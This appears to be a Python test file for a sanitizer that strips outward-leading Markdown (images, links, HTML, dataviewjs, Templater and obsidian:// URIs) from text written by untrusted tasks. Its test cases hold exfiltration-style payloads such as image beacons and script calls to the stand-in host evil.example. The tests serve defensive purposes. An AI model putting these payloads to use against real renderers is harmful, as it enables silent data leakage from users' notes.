"""What a task of others writes keeps its form and leads nowhere."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from factotum.worker.outside import led_nowhere

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
#: What a Markdown reader makes of what leads outside or is run.
OUTWARD = {"image", "link_open", "html_block", "html_inline"}

pieces = st.sampled_from(
    [
        *"\\`*_{}[]()#+-.!|<>~=^%$:&;\"'@/ \n\ta",
        "![",
        "](",
        "[a]",
        "]:",
        "https://evil.example/?d=canary",
        "//evil.example/x.png",
        "www.evil.example",
        "obsidian://new?silent",
        "data:text/html,x",
        "```",
        "~~~",
        "> ",
        "- ",
        "dataviewjs\n",
        "$= dv",
        "= this",
        "<%",
        "<img src=",
        "&lt;",
        "\u200b",
    ]
)
composed = st.lists(pieces, max_size=25).map("".join)


def kinds(text: str) -> set[str]:
    tokens = MARKDOWN.parse(text)
    return {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}


@given(composed)
def test_nothing_leads_outside(text: str) -> None:
    shown = led_nowhere(text)
    assert not kinds(shown) & OUTWARD
    assert "://" not in shown
    assert "![" not in shown
    assert "<" not in shown
    assert not re.search(r"(?i)\b(obsidian|javascript|file):", shown)
    assert not re.search(r"`\s*\$?=", shown)
    for token in MARKDOWN.parse(shown):
        assert "dataview" not in token.info


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n- [ ] to do\n- [x] done\n\n1. one\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "See [[Projects/Bianchi]] and [[Ada|her note]], **soon**, *please*.\n",
        "```python\nprint('x')\n```\n",
        "Price: 12,00 € (incl. tax); due: 3 May; a_b & c = d\n",
        "> [!note]- Folded\n> text\n",
    ],
)
def test_plain_notes_stay_as_they_are(text: str) -> None:
    assert led_nowhere(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/canary.png)",
        "![[https://evil.example/canary.png]]",
        "[click](https://evil.example/canary)",
        "[click](h&#116;tps&#58;//evil.example)",
        "[click][1]\n\n[1]: https://evil.example",
        "<img src='https://evil.example/canary'>",
        "<https://evil.example>",
        "``` dataviewjs\ndv.io.load('https://evil.example')\n```",
        "~~~dataviewjs `x`\ny\n~~~",
        "> - ```dataviewjs\n> x",
        "`` = this.file ``",
        "`$= dv.current()`",
        "<% tp.web.request('https://evil.example') %>",
        "[x](obsidian://new?file=Approved/x)",
    ],
)
def test_what_is_known_to_lead_outside_does_not(text: str) -> None:
    test_nothing_leads_outside.hypothesis.inner_test(text)  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "text",
    ["`" * 40_000, "```" + " " * 40_000 + "`", ("` " * 20_000), "> " * 20_000 + "x", "~" * 40_000],
)
def test_a_long_line_is_looked_at_once(text: str) -> None:
    began = time.process_time()
    led_nowhere(text)
    assert time.process_time() - began < 2
